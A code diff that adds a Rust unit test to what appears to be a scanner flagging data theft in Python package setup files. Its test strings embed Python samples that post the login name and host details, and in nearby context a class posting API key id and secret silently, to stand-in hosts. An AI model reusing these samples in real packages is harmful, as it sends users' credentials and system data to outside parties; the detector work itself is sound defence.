@@ -293,6 +293,15 @@ mod tests {
     }
 
     #[test]
+    fn data_a_branch_gathered_still_flows_after_another_branch_assigns_clean_data() {
+        let code = "import os, platform, requests\nif platform.system() == 'Linux':\n    data = {'user': os.getlogin(), 'host': os.uname()}\nelse:\n    data = {'Error': 'unsupported'}\nrequests.post('https://c.example.invalid/', data=data)\n";
+        assert!(max_severity("p-1/setup.py", code, "WH200") >= 0.5);
+        // Outside branches, a clean value replaces what the name held.
+        let replaced = "import os, requests\ndata = {'user': os.getlogin()}\ndata = {'Error': 'unsupported'}\nrequests.post('https://c.example.invalid/', data=data)\n";
+        assert_eq!(max_severity("p-1/setup.py", replaced, "WH200"), 0.0);
+    }
+
+    #[test]
     fn credentials_posted_silently_with_the_reply_discarded_are_stolen() {
         let stealer = "import requests\nclass Credentials:\n    def __init__(self, key_id, key_secret):\n        self.key_id = key_id\n        self.key_secret = key_secret\n        try:\n            data = {'ak': self.key_id, 'sk': self.key_secret}\n            requests.post(url='https://api.sdk-requests.example/k', json=data)\n        except:\n            pass\n";
         assert!(silent_send(stealer));
